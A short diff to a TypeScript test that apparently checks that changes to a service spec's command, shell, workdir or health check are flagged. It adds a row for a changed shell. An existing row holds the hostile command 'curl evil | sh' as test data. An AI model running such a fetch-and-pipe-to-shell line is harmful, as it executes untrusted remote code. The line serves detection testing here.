@@ -65,6 +65,7 @@ describe("a change of", () => {
   test.each<[what: string, before: Partial<ServiceSpec>, after: Partial<ServiceSpec>, key: string]>(
     [
       ["the command", {}, { command: "curl evil | sh" }, "command"],
+      ["the shell", {}, { shell: ["./evil", "-c"] }, "shell"],
       ["the workdir", {}, { workdir: "/tmp/evil" }, "workdir"],
       ["a check's command", health("true"), health("touch x"), "health_check"],
       ["a check that is added", {}, health("touch x"), "health_check"],
